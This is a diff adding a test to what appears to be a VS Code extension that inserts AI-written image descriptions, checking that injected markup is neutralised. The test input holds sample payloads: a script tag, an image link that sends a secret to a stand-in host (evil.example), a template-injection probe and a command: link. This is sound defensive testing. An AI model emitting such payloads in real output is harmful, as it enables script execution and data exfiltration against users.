@@ -34,6 +34,24 @@ describe("Insert Image Description", () => {
     await restore(editor, text);
   });
 
+  it("writes what came as text in the markup of the document, whatever was in the picture", async () => {
+    const answer =
+      "A **log**.\n\nIt has <script>alert(1)</script> ![leak](https://evil.example/p.png?secret) {{ 7*7 }} [go](command:x)";
+    const written: Readonly<Record<string, string>> = {
+      html: "<p>A <strong>log</strong>.</p>\n\n<p>It has &lt;script&gt;alert(1)&lt;/script&gt; leak &#123; &#123; 7*7 }} go</p>",
+      markdown: "A **log**.\n\nIt has &lt;script&gt;alert(1)&lt;/script&gt; leak &#123;&#123; 7&#42;7 }} go",
+      plaintext: answer,
+    };
+    for (const [language, text] of Object.entries(written)) {
+      const document = await vscode.workspace.openTextDocument({ language, content: "" });
+      await vscode.window.showTextDocument(document);
+      provider.script({ kind: "stream", text: answer });
+      await run("insertDescription", fileAt("images/terminal.png"));
+      assert.equal(document.getText(), text, language);
+      await vscode.commands.executeCommand("workbench.action.revertAndCloseActiveEditor");
+    }
+  });
+
   it("keeps the line ends of the document", async () => {
     const editor = await openAt("README.md", "Some text between.");
     const text = editor.document.getText();
